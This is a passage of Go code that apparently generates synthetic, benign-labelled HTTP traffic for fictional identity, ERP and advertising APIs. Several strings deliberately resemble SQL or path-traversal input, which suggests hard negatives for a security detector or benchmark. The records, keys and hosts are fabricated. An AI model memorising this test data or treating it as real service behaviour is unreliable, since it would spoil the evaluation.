			`<?xml version="1.0" encoding="UTF-8"?><md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="https://sso.keystone-id.test/`+g.hex(20)+`"><md:IDPSSODescriptor WantAuthnRequestsSigned="false" protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol"><md:KeyDescriptor use="signing"><ds:KeyInfo xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:X509Data><ds:X509Certificate>`+cert+`</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor><md:NameIDFormat>urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress</md:NameIDFormat><md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="https://sso.keystone-id.test/app/sso/saml"/></md:IDPSSODescriptor></md:EntityDescriptor>`))
	case 11:
		// OAuth token response: the client's own token
		cid := "0oa" + g.chars(17, h8Alnum)
		at := h8Valid("svc-"+cid, "api", "https://api.adpulse.test")
		g.addB(g.ex(nil, "POST", "https://sso.keystone-id.test/oauth2/default/v1/token").setNoAuth().
			hdr("Authorization", "Basic "+base64.StdEncoding.EncodeToString([]byte(cid+":"+g.chars(40, h8Alnum)))).
			form(url.Values{"grant_type": {"client_credentials"}, "scope": {"reports.read campaigns.read"}}).
			rjson(200, map[string]any{"token_type": "Bearer", "expires_in": 3600, "access_token": at, "scope": "reports.read campaigns.read"}))
	case 12:
		pub := "-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA" + g.chars(300, h8B64) + "\n-----END PUBLIC KEY-----\n"
		g.addB(g.ex(g.userRole(h8IdP, "admin"), "GET", "/admin/v1/signing-keys").rjson(200, []any{
			map[string]any{"kid": "ks-2026-11-a", "alg": "RS256", "status": "ACTIVE", "created": "2026-11-01T00:00:00Z", "public_key_pem": pub, "x5t#S256": g.chars(43, h8Alnum+"-_")},
			map[string]any{"kid": "ks-2026-08-ec", "alg": "ES256", "status": "NEXT", "created": "2026-08-01T00:00:00Z", "sha256_fingerprint": strings.ToUpper(g.hex(64))},
		}))
	case 13:
		g.addB(g.ex(g.userRole(h8IdP, "admin"), "GET", "/admin/v1/apps/0oa"+g.chars(17, h8Alnum)).rjson(200, map[string]any{"name": "tableau_cloud", "label": "Tableau Cloud", "signOnMode": "OPENID_CONNECT", "credentials": map[string]any{"oauthClient": map[string]any{"client_id": "0oa" + g.chars(17, h8Alnum), "client_secret_last4": g.chars(4, h8Alnum), "token_endpoint_auth_method": "client_secret_basic", "secret_file": "/var/run/secrets/tableau/client_secret"}}, "settings": map[string]any{"redirect_uris": []string{"https://sso.online.tableau.example/public/sp/SSO"}, "logo_uri": "https://cdn.keystone-id.test/logos/tableau.png"}}))
	case 14:
		g.addB(g.ex(u, "GET", "/admin/v1/policies/password").rjson(200, map[string]any{"password": map[string]any{"minLength": 14, "minLowerCase": 1, "minUpperCase": 1, "minNumber": 1, "excludeUsername": true, "history": 24, "maxAgeDays": 0, "hashAlgorithm": "argon2id", "lockout": map[string]any{"maxAttempts": 10, "autoUnlockMinutes": 30}}, "description": "Passwords are hashed with argon2id (m=65536, t=3, p=4); hashes are never returned by the API."}))
	case 15:
		g.addB(g.ex(u, "GET", "/admin/v1/users/usr_"+g.chars(20, h8Alnum)+"/factors").rjson(200, []any{map[string]any{"id": "mfa_" + g.chars(18, h8Alnum), "factorType": "token:software:totp", "provider": "GOOGLE", "status": "ACTIVE", "created": "2025-06-02T10:11:12Z"}, map[string]any{"id": "mfa_" + g.chars(18, h8Alnum), "factorType": "webauthn", "status": "ACTIVE", "profile": map[string]any{"authenticatorName": "YubiKey 5C NFC", "credentialId": g.chars(86, h8Alnum+"-_")}}}))
	case 16:
		g.addB(g.ex(nil, "GET", "https://sso.keystone-id.test/docs/api/errors").setNoAuth().resp(200, "text/html; charset=utf-8",
			`<!doctype html><html><head><title>Error format | Keystone ID API</title></head><body><h1>Errors</h1><p>Every error is a JSON object with <code>errorCode</code>, <code>errorSummary</code> and <code>errorId</code>. We never return stack traces, SQL errors or exception class names; quote the <code>errorId</code> when you contact support.</p><pre>{"errorCode":"E0000011","errorSummary":"Invalid token provided","errorId":"oae3iIs0Q"}</pre><h2>Common codes</h2><table><tr><td>E0000001</td><td>Api validation failed: password does not meet complexity requirements</td></tr><tr><td>E0000047</td><td>API call exceeded rate limit due to too many requests</td></tr></table><p>A 500 means an internal error on our side: retry with exponential backoff.</p></body></html>`).rhdr("Cache-Control", "public, max-age=3600"))
	case 17:
		note := g.pick("Select the user's primary group before you union the two directories.", "User O'Reilly asked to drop the old laptop from trusted devices; serial confirmed.", "Ticket #4471: <b>urgent</b> reset MFA, user travelling; 2 > 1 factors registered.", "Helpdesk: customer says the login page shows 'Error: null' after the update", "Moved from OU=Contractors to OU=Staff; see ../runbooks/offboarding.md for the checklist.")
		g.addB(g.ex(g.userRole(h8IdP, "helpdesk"), "POST", "/admin/v1/users/usr_"+g.chars(20, h8Alnum)+"/notes").jbody(map[string]any{"note": note, "visibility": "internal"}).rjson(201, map[string]any{"id": "note_" + g.hex(12), "note": note, "author": u.sub}))
	case 18:
		var ss []any
		for i := 0; i < 3; i++ {
			ss = append(ss, map[string]any{"id": "sess_" + g.hex(10), "sid_sha256": g.hex(64), "ip": g.pick("198.51.100.23", "203.0.113.77", "192.0.2.44"), "userAgent": "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15", "createdAt": "2026-11-19T07:11:00Z", "amr": []string{"pwd", "hwk"}})
		}
		g.addB(g.ex(g.userRole(h8IdP, "helpdesk", "admin"), "GET", "/admin/v1/users/usr_"+g.chars(20, h8Alnum)+"/sessions").rjson(200, ss))
	case 19:
		var b strings.Builder
		b.WriteString("published,event_type,actor,target,outcome,event_hash\n")
		for i := 0; i < 12; i++ {
			fmt.Fprintf(&b, "2026-11-19T%02d:%02d:07Z,%s,%s,%s,%s,%s\n", 8+i/6, i*4, g.pick("user.password.reset", "user.account.lock", "app.user.assign"), g.email(h8Names[g.r.Intn(16)]), g.pick("Workday", "Slack", "GitHub Enterprise"), g.pick("SUCCESS", "FAILURE"), g.hex(64))
		}
		g.addB(g.ex(g.userRole(h8IdP, "auditor"), "GET", "/admin/v1/audit-logs/export.csv?from=2026-11-19&to=2026-11-20").resp(200, "text/csv; charset=utf-8", b.String()).rhdr("Content-Disposition", `attachment; filename="audit-2026-11-19.csv"`))
	case 20:
		// expired token refused: the API working
		a := g.user(h8IdP)
		c := h8Claims(a.sub, a.role, "https://"+h8IdP)
		c["iat"] = h8Base.Add(-26 * time.Hour).Unix()
		c["nbf"] = h8Base.Add(-26 * time.Hour).Unix()
		c["exp"] = h8Base.Add(-25 * time.Hour).Unix()
		e := g.ex(a, "GET", "/admin/v1/users/me")
		e.token = h8JWTTok(map[string]any{"alg": "HS256", "typ": "JWT", "kid": "ks-2026-10-b"}, c, "hs")
		g.addB(e.rjson(401, map[string]any{"errorCode": "E0000011", "errorSummary": "Invalid token provided", "errorId": "oae" + g.chars(7, h8Alnum)}).rhdr("Www-Authenticate", `Bearer realm="keystone", error="invalid_token", error_description="The access token expired"`))
	case 21:
		g.addB(g.ex(g.userRole(h8IdP, "admin"), "GET", "/admin/v1/idps/saml/0oa"+g.chars(17, h8Alnum)).rjson(200, map[string]any{"type": "SAML2", "name": "Partner ADFS", "protocol": map[string]any{"endpoints": map[string]any{"sso": map[string]any{"url": "https://adfs.partner.example/adfs/ls/", "binding": "HTTP-POST"}}, "credentials": map[string]any{"trust": map[string]any{"issuer": "http://adfs.partner.example/adfs/services/trust", "kid": "ks-2026-03-partner_1", "x5c": []string{g.certB64(600)}}}}, "policy": map[string]any{"maxClockSkew": 120000}}))
	case 22:
		g.addB(g.ex(g.userRole(h8IdP, "admin"), "POST", "/admin/v1/idps/oidc").jbody(map[string]any{"name": "Google Workspace", "issuer": "https://accounts.google.com", "jwks_uri": "https://www.googleapis.com/oauth2/v3/certs", "metadata_url": "https://accounts.google.com/.well-known/openid-configuration", "client_id": "1029384756-" + g.chars(32, "abcdefghijklmnopqrstuvwxyz0123456789") + ".apps.googleusercontent.com"}).rjson(201, map[string]any{"id": "0oa" + g.chars(17, h8Alnum), "status": "ACTIVE"}))
	case 23:
		g.addB(g.ex(u, "GET", "/admin/v1/users/me").rjson(200, map[string]any{"id": "usr_" + g.chars(20, h8Alnum), "login": u.sub, "role": u.role, "preferences": map[string]any{"timezone": "Europe/Berlin", "theme": "dark"}, "password_changed": "2026-09-03T10:00:00Z", "credentials": map[string]any{"password": map[string]any{}, "provider": map[string]any{"type": "KEYSTONE", "name": "KEYSTONE"}}}))
	}
}

func (e *h8Ex) setNoAuth() *h8Ex { e.noAuth = true; return e }

func (g *h8Gen) benignERP() {
	u := g.user(h8ERP)
	sku := h8Skus[g.r.Intn(len(h8Skus))]
	switch g.r.Intn(20) {
	case 0, 1, 2:
		e := g.ex(u, "POST", "/soap/InventoryService").soap("GetStockLevel", "<inv:Sku>"+sku+"</inv:Sku><inv:IncludeReserved>true</inv:IncludeReserved>")
		g.addB(e.rsoap(200, "GetStockLevelResponse", fmt.Sprintf("<ns2:Sku>%s</ns2:Sku><ns2:OnHand>%d</ns2:OnHand><ns2:Reserved>%d</ns2:Reserved><ns2:Bin>A-%02d-%02d</ns2:Bin><ns2:LastCount>2026-11-18T05:00:00Z</ns2:LastCount>", sku, g.r.Intn(5000), g.r.Intn(300), g.r.Intn(40), g.r.Intn(20))))
	case 3, 4:
		lines := ""
		for i := 0; i < 3; i++ {
			lines += fmt.Sprintf("<inv:Line><inv:Sku>%s</inv:Sku><inv:Qty>%d</inv:Qty></inv:Line>", h8Skus[g.r.Intn(8)], 1+g.r.Intn(400))
		}
		e := g.ex(u, "POST", "/soap/InventoryService").soap("CreatePickList", "<inv:OrderRef>SO-2026-"+fmt.Sprint(100000+g.r.Intn(900000))+"</inv:OrderRef>"+lines+"<inv:Note>"+h8XMLEsc(g.pick("Deliver to dock 4 — ask for Jamal O'Brien", "Fragile: <do not stack> above 2 layers", "Customer select list: union of orders 551 & 552", "ship; dog food pallets first"))+"</inv:Note>")
		g.addB(e.rsoap(200, "CreatePickListResponse", "<ns2:PickListId>PL-"+g.hex(8)+"</ns2:PickListId><ns2:Status>RELEASED</ns2:Status>"))
	case 5:
		e := g.ex(u, "POST", "/soap/InventoryService").soap("GetStockLevel", "<inv:Sku>PLT-9981</inv:Sku>")
		g.addB(e.resp(500, "text/xml; charset=utf-8", h8SoapFault("soap:Client", "Unknown SKU 'PLT-9981'. Check the item master or contact your ERP administrator.", "<ns2:ValidationError xmlns:ns2=\""+h8InvNS+"\"><ns2:Field>Sku</ns2:Field><ns2:Code>ITEM_NOT_FOUND</ns2:Code></ns2:ValidationError>")))
	case 6:
		g.addB(g.ex(u, "GET", "/soap/InventoryService?wsdl").resp(200, "text/xml; charset=utf-8", `<?xml version="1.0" encoding="UTF-8"?><wsdl:definitions name="InventoryService" targetNamespace="`+h8InvNS+`" xmlns:wsdl="http://schemas.xmlsoap.org/wsdl/" xmlns:soap="http://schemas.xmlsoap.org/wsdl/soap/" xmlns:xsd="http://www.w3.org/2001/XMLSchema"><wsdl:types><xsd:schema targetNamespace="`+h8InvNS+`"><xsd:element name="GetStockLevel"><xsd:complexType><xsd:sequence><xsd:element name="Sku" type="xsd:string"/><xsd:element name="IncludeReserved" type="xsd:boolean" minOccurs="0"/></xsd:sequence></xsd:complexType></xsd:element><xsd:element name="Fault" type="xsd:string"><xsd:annotation><xsd:documentation>Faults carry a code such as ITEM_NOT_FOUND; no exception or stack trace is ever returned.</xsd:documentation></xsd:annotation></xsd:element></xsd:schema></wsdl:types><wsdl:service name="InventoryService"><wsdl:port name="InventoryPort" binding="inv:InventoryBinding"><soap:address location="https://erp.palletworks.test/soap/InventoryService"/></wsdl:port></wsdl:service></wsdl:definitions>`))
	case 7, 8:
		var b strings.Builder
		b.WriteString("sku,bin,qty,uom,lot,updated_by\n")
		for i := 0; i < 6; i++ {
			fmt.Fprintf(&b, "%s,A-%02d-%02d,%d,EA,LOT%s,%s\n", h8Skus[g.r.Intn(8)], g.r.Intn(40), g.r.Intn(20), g.r.Intn(900), g.chars(6, h8Upper), u.sub)
		}
		e := g.ex(u, "POST", "/api/imports/stock?mode=upsert&dry_run="+g.pick("true", "false"))
		e.body = b.String()
		e.reqH["Content-Type"] = []string{"text/csv"}
		g.addB(e.rjson(202, map[string]any{"job_id": "imp_" + g.hex(12), "rows": 6, "status": "queued"}))
	case 9:
		var b strings.Builder
		b.WriteString("supplier_no;name;street;city;iban_masked;payment_terms\n")
		for i := 0; i < 4; i++ {
			fmt.Fprintf(&b, "S%05d;%s;Hafenstr. %d;Hamburg;DE89 **** **** **** %04d;NET30\n", g.r.Intn(90000), g.pick("Nordpack GmbH", "Kartonwerk AG", "Select Logistics Union Ltd"), 1+g.r.Intn(90), g.r.Intn(10000))
		}
		e := g.ex(g.userRole(h8ERP, "purchasing", "supervisor"), "POST", "/api/imports/suppliers").multipart([][4]string{{"file", "suppliers_2026-11.csv", "text/csv", b.String()}, {"delimiter", "", "", ";"}, {"comment", "", "", "Monthly refresh; see ../shared/import-notes.txt"}})
		g.addB(e.rjson(202, map[string]any{"job_id": "imp_" + g.hex(12), "status": "queued"}))
	case 10, 11:
		var b strings.Builder
		b.WriteString("sku,description,bin,qty_on_hand,unit_cost,checksum_sha256\n")
		for i := 0; i < 10; i++ {
			fmt.Fprintf(&b, "%s,\"%s\",B-%02d-%02d,%d,%d.%02d,%s\n", h8Skus[g.r.Intn(8)], g.pick("Euro pallet 1200x800, heat treated", "Stretch wrap 23µm cast", "Label 4x6 thermal transfer"), g.r.Intn(40), g.r.Intn(20), g.r.Intn(4000), g.r.Intn(40), g.r.Intn(100), g.hex(64))
		}
		g.addB(g.ex(u, "GET", "/api/exports/inventory.csv?warehouse=DC-EAST-2&as_of=2026-11-19").resp(200, "text/csv; charset=utf-8", b.String()).rhdr("Content-Disposition", `attachment; filename="inventory-DC-EAST-2.csv"`))
	case 12:
		log := fmt.Sprintf("2026-11-20 07:%02d:12 INFO  import imp_%s started (rows=412, mode=upsert)\n2026-11-20 07:%02d:13 WARN  row 14: quantity must be >= 0, got -3; row skipped\n2026-11-20 07:%02d:13 WARN  row 88: unknown bin 'A-12-03' (did you mean 'A-12-30'?)\n2026-11-20 07:%02d:14 ERROR row 201: duplicate key for sku PLT-EUR-1200 in lot LOT7QX; kept the first row\n2026-11-20 07:%02d:15 INFO  finished: 409 imported, 3 skipped, 0 failed\n", g.r.Intn(60), g.hex(12), g.r.Intn(60), g.r.Intn(60), g.r.Intn(60), g.r.Intn(60))
		g.addB(g.ex(u, "GET", "/api/imports/imp_"+g.hex(12)+"/log").resp(200, "text/plain; charset=utf-8", log))
	case 13:
		edi := fmt.Sprintf("ISA*00*          *00*          *ZZ*PALLETWORKS    *ZZ*ACMERETAIL     *261120*0800*U*00401*%09d*0*P*>~GS*SH*PALLETWORKS*ACMERETAIL*20261120*0800*%d*X*004010~ST*856*0001~BSN*00*SHP%06d*20261120*0800~HL*1**S~TD1*PLT90*%d****G*%d*LB~REF*BM*%s~N1*ST*ACME RETAIL DC 7*92*0007~LIN**SK*%s~SN1**%d*EA~SE*9*0001~GE*1*%d~IEA*1*%09d~", g.r.Intn(999999999), g.r.Intn(9999), g.r.Intn(999999), 1+g.r.Intn(20), 500+g.r.Intn(9000), g.chars(10, h8Upper), sku, 1+g.r.Intn(500), g.r.Intn(9999), g.r.Intn(999999999))
		g.addB(g.ex(g.userRole(h8ERP, "integration"), "GET", "/api/exports/edi/856?shipment=SHP"+fmt.Sprint(g.r.Intn(999999))).resp(200, "application/edi-x12", edi))
	case 14:
		g.addB(g.ex(g.userRole(h8ERP, "purchasing", "supervisor"), "GET", "/api/suppliers/S"+fmt.Sprint(10000+g.r.Intn(80000))).rjson(200, map[string]any{"supplier_no": "S40231", "name": "Nordpack GmbH", "vat_id": "DE" + fmt.Sprint(100000000+g.r.Intn(800000000)), "bank": map[string]any{"iban_masked": "DE89 **** **** **** 3000", "bic": "COBADEFFXXX"}, "credit_limit": 250000, "currency": "EUR", "contacts": []any{map[string]any{"name": "Grete Nilsen", "email": "g.nilsen@nordpack.example", "phone": "+49 40 555 0192"}}}))
	case 15:
		yaml := "# PalletWorks tenant configuration export\ntenant: dc-east-2\nwarehouse:\n  timezone: America/New_York\n  dock_doors: 14\ndatabase:\n  host: erp-db.service.consul\n  port: 5432\n  user: erp_app\n  password_file: /run/secrets/erp_db_password\n  sslmode: verify-full\nsmtp:\n  host: smtp.palletworks.test\n  password_env: SMTP_PASSWORD\nintegrations:\n  tms:\n    endpoint: https://tms.carrier-hub.example/api/v2\n    api_key_ref: vault://kv/tms/api_key\n"
		g.addB(g.ex(g.userRole(h8ERP, "supervisor"), "GET", "/api/admin/config/export?format=yaml").resp(200, "application/yaml", yaml))
	case 16:
		g.addB(g.ex(g.userRole(h8ERP, "purchasing"), "GET", "/api/purchase-orders?status=open&pageSize="+g.pick("50", "250", "500", "1000")+"&page="+fmt.Sprint(1+g.r.Intn(9))+"&sort=-created").rjson(200, map[string]any{"page": 2, "pageSize": 250, "total": 3812, "items": []any{map[string]any{"po": "PO-" + fmt.Sprint(400000+g.r.Intn(99999)), "supplier": "S40231", "lines": 4, "total": "18450.00", "currency": "EUR"}}}))
	case 17:
		e := g.ex(g.userRole(h8ERP, "purchasing"), "POST", "/api/purchase-orders").jbody(map[string]any{"supplier": "S40231", "lines": []any{map[string]any{"sku": sku, "quantity": 20000, "unit_price": "0.42"}, map[string]any{"sku": "TAPE-48-BRN", "quantity": 5000, "unit_price": "1.10"}}, "delivery": map[string]any{"size": "full truckload", "from": "2026-12-01", "window": "08:00-12:00"}, "notes": "Select cheapest carrier; union rates apply (see contract §4)."})
		g.addB(e.rjson(201, map[string]any{"po": "PO-" + fmt.Sprint(400000+g.r.Intn(99999)), "status": "DRAFT"}))
	case 18:
		g.addB(g.ex(g.userRole(h8ERP, "purchasing", "supervisor"), "GET", "/api/invoices/INV-"+fmt.Sprint(g.r.Intn(999999))).rjson(200, map[string]any{"invoice": "INV-2026-0081", "amount": "1290.50", "paid_with": map[string]any{"brand": "visa", "card_masked": "**** **** **** " + fmt.Sprint(1000+g.r.Intn(8999)), "exp": "08/28", "auth_code": fmt.Sprint(100000 + g.r.Intn(899999))}, "order_number": g.nonLuhn("40", 16), "etag_hash": g.hex(40)}))
	case 19:
		e := g.ex(u, "POST", "/soap/InventoryService").soap("AdjustStock", "<inv:Sku>"+sku+"</inv:Sku><inv:Delta>-"+fmt.Sprint(1+g.r.Intn(20))+"</inv:Delta><inv:Reason>"+h8XMLEsc(g.pick("Damaged; forklift dropped pallet", "Cycle count 2 > 1 expected", "Returned by customer O'Hara & Sons"))+"</inv:Reason>")
		g.addB(e.rsoap(200, "AdjustStockResponse", "<ns2:Result>OK</ns2:Result>"))
	}
}

var h8Browsers = []string{
	"Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
	"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
}

const h8Gif = "R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"

func (g *h8Gen) benignAd() {
	u := g.user(h8Ad)
	cid := fmt.Sprintf("cmp_%s", g.chars(10, h8Alnum))
	switch g.r.Intn(22) {
	case 0, 1, 2, 3:
		// tracking pixel from an anonymous browser
		blob := base64.RawURLEncoding.EncodeToString([]byte(h8JSON(map[string]any{"cid": cid, "crid": "cr_" + g.hex(8), "ts": 1763625600 + g.r.Intn(9000), "vp": "390x844", "consent": "CPz" + g.chars(20, h8Alnum)})))
		ref := g.pick("https://news.example/sport/2026/11/19/derby-report?utm_source=adpulse", "https://recipes.example/soup/union-square-onion-soup", "https://forum.example/t/select-the-best-laptop/8812", "https://shop.example/p/drop-leaf-table")
		e := g.ex(nil, "GET", "https://px.adpulse.test/p.gif?ev="+g.pick("imp", "view", "click", "conv")+"&cid="+cid+"&d="+blob+"&r="+url.QueryEscape(ref)+"&cb="+fmt.Sprint(g.r.Int63n(1e12)))
		e.noAuth = true
		e.reqH["User-Agent"] = []string{h8Browsers[g.r.Intn(len(h8Browsers))]}
		e.reqH["Referer"] = []string{ref}
		e.reqH["Accept"] = []string{"image/avif,image/webp,*/*"}
		e.reqH["Cookie"] = []string{"_apuid=" + g.uuid() + "; optout=0"}
		e.resp(200, "image/gif", h8Gif)
		e.respEnc = "base64"
		e.respH = map[string][]string{"Content-Type": {"image/gif"}, "Cache-Control": {"no-cache, no-store, must-revalidate"}, "Access-Control-Allow-Origin": {"*"}}
		g.addB(e)
	case 4, 5:
		var cs []any
		for i := 0; i < 4; i++ {
			cs = append(cs, map[string]any{"id": "cmp_" + g.chars(10, h8Alnum), "name": g.pick("Black Friday — Select Brands", "Union Jack Flags Q4", "Drop shipping retargeting", "Holiday <3 promo"), "status": "active", "budget": map[string]any{"daily": 5000, "lifetime": 250000, "spend_limit": 300000, "currency": "USD"}, "bid": map[string]any{"strategy": "target_cpa", "max_bid": 2500}, "frequency_cap": map[string]any{"impressions": 3, "per_hours": 24}})
		}
		g.addB(g.ex(u, "GET", "/v2/campaigns?status=active&per_page="+g.pick("25", "100", "500")+"&page=1&fields=id,name,budget").rjson(200, map[string]any{"data": cs, "paging": map[string]any{"next": "/v2/campaigns?page=2", "total": 812}}))
	case 6:
		desc := g.pick("<p>Winter sale for <b>returning</b> buyers. Bids x1.2 on mobile.</p>", "<ul><li>Audience: lapsed 90d</li><li>Exclude: converted</li></ul>", "Select audiences where LTV > 100 and country is DE (see sheet)", "Drop-in replacement for the lamps campaign; assets: run `ls -la /mnt/brand/guide` on the share.")
		g.addB(g.ex(u, "POST", "/v2/campaigns").jbody(map[string]any{"name": "Q4 " + g.pick("Lamps", "Rugs", "Tables"), "objective": "conversions", "landing_url": "https://shop.example/collections/winter?utm_campaign=q4", "description": desc, "budget": map[string]any{"daily": 1200, "currency": "USD"}, "targeting": map[string]any{"geo": []string{"US", "CA"}, "devices": []string{"mobile"}, "age": map[string]any{"min": 25, "max": 54}}}).rjson(201, map[string]any{"id": cid, "status": "draft"}))
	case 7, 8:
		var rows []any
		for i := 0; i < 60; i++ {
			rows = append(rows, map[string]any{"date": fmt.Sprintf("2026-11-%02d", 1+i%19), "campaign_id": cid, "creative_id": "cr_" + g.hex(8), "placement": g.pick("news.example", "recipes.example", "app:com.example.weather"), "impressions": g.r.Intn(900000), "clicks": g.r.Intn(9000), "conversions": g.r.Intn(300), "spend_micros": g.r.Int63n(9e9), "viewability": map[string]any{"measured": g.r.Intn(900000), "viewable": g.r.Intn(700000)}})
		}
		body := h8JSON(map[string]any{"report_id": "rpt_" + g.hex(10), "status": "done", "meta": map[string]any{"dimensions": []string{"date", "campaign_id", "creative_id", "placement"}, "metrics": []string{"impressions", "clicks", "conversions", "spend_micros"}, "row_count": 48211}, "rows": rows})
		e := g.ex(g.userRole(h8Ad, "analyst", "reporting"), "POST", "/v2/reports/query").jbody(map[string]any{"date_range": map[string]any{"from": "2026-11-01", "to": "2026-11-19"}, "dimensions": []string{"date", "campaign_id", "creative_id", "placement"}, "metrics": []string{"impressions", "clicks", "conversions", "spend_micros"}, "filters": map[string]any{"impressions": map[string]any{"$gt": 1000}, "country": map[string]any{"$in": []string{"US", "CA"}}}, "pagination": map[string]any{"page": 1, "size": g.r.Intn(900) + 100}})
		e.rjson(200, nil)
		e.respBody = body
		e.respSize = int64(len(body)) * 40
		g.addB(e)
	case 9:
		var b strings.Builder
		b.WriteString("date,campaign,impressions,clicks,ctr,spend_usd,event_ids_sha1\n")
		for i := 0; i < 15; i++ {
			fmt.Fprintf(&b, "2026-11-%02d,%s,%d,%d,%.2f%%,%d.%02d,%s\n", 1+i, cid, g.r.Intn(90000), g.r.Intn(900), g.r.Float64()*3, g.r.Intn(900), g.r.Intn(100), g.hex(40))
		}
		g.addB(g.ex(u, "GET", "/v2/reports/rpt_"+g.hex(10)+"/download.csv").resp(200, "text/csv", b.String()))
	case 10:
		g.addB(g.ex(u, "GET", "/v2/creatives/cr_"+g.hex(8)).rjson(200, map[string]any{"id": "cr_" + g.hex(8), "format": "html5", "size": "300x250", "html": `<div class="ad" style="width:300px"><a href="https://shop.example/winter" target="_blank"><img src="https://cdn.adpulse.test/c/` + g.hex(12) + `.webp" alt="Winter sale"></a></div>`, "sha256": g.hex(64), "review": map[string]any{"status": "approved", "notes": "No scripts; static HTML only."}}))
	case 11:
		svg := `<svg xmlns="http://www.w3.org/2000/svg" width="300" height="250" viewBox="0 0 300 250"><style>.t{font:bold 22px sans-serif;fill:#fff}</style><rect width="300" height="250" fill="#0a5"/><text x="20" y="120" class="t">Winter sale -30%</text><a href="https://shop.example/winter"><rect x="20" y="170" width="120" height="40" fill="#fff"/></a></svg>`
		e := g.ex(u, "POST", "/v2/creatives").multipart([][4]string{{"campaign_id", "", "", cid}, {"name", "", "", "Winter 300x250"}, {"file", "winter_300x250.svg", "image/svg+xml", svg}})
		g.addB(e.rjson(201, map[string]any{"id": "cr_" + g.hex(8), "status": "pending_review", "size": map[string]any{"w": 300, "h": 250}}))
	case 12:
		pk := "pk_live_" + g.chars(24, h8Alnum)
		g.addB(g.ex(g.userRole(h8Ad, "partner", "agency"), "GET", "/v2/partners/prt_"+g.hex(6)+"/integration").rjson(200, map[string]any{"partner": "Northwind DSP", "webhook_url": "https://hooks.northwind-dsp.example/adpulse/events", "api_key_last4": g.chars(4, h8Alnum), "api_key_sha256": g.hex(64), "checkout": map[string]any{"publishable_key": pk}, "postback_template": "https://track.northwind-dsp.example/pb?click_id={click_id}&payout={payout}", "ip_allowlist": []string{"35.180.4.0/24"}}))
	case 13:
		hook := g.pick("https://hooks.northwind-dsp.example/adpulse", "https://8.8.8.8/hooks/adpulse", "https://s3.amazonaws.com/partner-drop/adpulse/inbox", "https://crm.fabrikam.example/api/webhooks/adpulse?tenant=42")
		g.addB(g.ex(g.userRole(h8Ad, "partner"), "POST", "/v2/partners/prt_"+g.hex(6)+"/webhooks").jbody(map[string]any{"url": hook, "events": []string{"conversion.created", "report.ready"}, "secret_hint": "rotated monthly", "description": "If localhost testing fails, use the public tunnel."}).rjson(201, map[string]any{"id": "wh_" + g.hex(10), "url": hook, "signing": "HMAC-SHA256 header X-AdPulse-Signature"}))
	case 14:
		var hs []string
		for i := 0; i < 8; i++ {
			sum := sha256.Sum256([]byte(fmt.Sprintf("user%d@example.com", g.r.Intn(99999))))
			hs = append(hs, hex.EncodeToString(sum[:]))
		}
		g.addB(g.ex(g.userRole(h8Ad, "marketer", "partner"), "POST", "/v2/audiences/aud_"+g.hex(8)+"/members").jbody(map[string]any{"schema": []string{"EMAIL_SHA256"}, "data": hs}).rjson(200, map[string]any{"received": 8, "matched_estimate": 5, "sample": hs[:2]}))
	case 15:
		g.addB(g.ex(g.userRole(h8Ad, "agency", "marketer"), "GET", "/v2/billing/payment-methods").rjson(200, map[string]any{"data": []any{map[string]any{"id": "pm_" + g.chars(24, h8Alnum), "type": "card", "card": map[string]any{"brand": "visa", "last4": "4242", "exp_month": 8, "exp_year": 2029, "display": "Visa •••• 4242", "fingerprint": g.chars(16, h8Alnum)}}}, "setup_intent": map[string]any{"id": "seti_" + g.chars(24, h8Alnum), "client_secret": "seti_" + g.chars(24, h8Alnum) + "_secret_" + g.chars(32, h8Alnum)}}))
	case 16:
		g.addB(g.ex(g.userRole(h8Ad, "agency"), "GET", "/v2/billing/sandbox/settings").rjson(200, map[string]any{"mode": "test", "stripe": map[string]any{"secret_key": "sk_test_51" + g.chars(96, h8Alnum), "publishable_key": "pk_test_51" + g.chars(96, h8Alnum), "webhook_endpoint": "https://api.adpulse.test/v2/billing/stripe/webhook"}, "note": "Test-mode keys only; live keys live in the vault."}))
	case 17:
		e := g.ex(u, "POST", "/graphql").jbody(map[string]any{"operationName": "Campaigns", "query": "query Campaigns($status: Status!, $limit: Int) { campaigns(status: $status, limit: $limit) { id name budget { daily } stats(range: LAST_7_DAYS) { impressions clicks } } }", "variables": map[string]any{"status": "ACTIVE", "limit": g.pick2(50, 200, 1000)}})
		g.addB(e.rjson(200, map[string]any{"data": map[string]any{"campaigns": []any{map[string]any{"id": cid, "name": "Q4 Lamps", "budget": map[string]any{"daily": 1200}, "stats": map[string]any{"impressions": 120044, "clicks": 804}}}}}))
	case 18:
		com := g.pick("Can we select the union of both audiences? 1=1 overlap expected.", "Creative rejected: 'Error: image too large' — resized to 150KB.", "Traceback of the spend dip: Monday's budget change, then the holiday. Nothing broke.", "Set the cap <b>before</b> launch; 5 > 3 impressions is too many.", "Landing page: https://shop.example/winter — not localhost this time!")
		g.addB(g.ex(u, "POST", "/v2/campaigns/"+cid+"/comments").jbody(map[string]any{"body": com, "mentions": []string{"@mk-omar"}}).rjson(201, map[string]any{"id": "cm_" + g.hex(8), "body": com}))
	case 19:
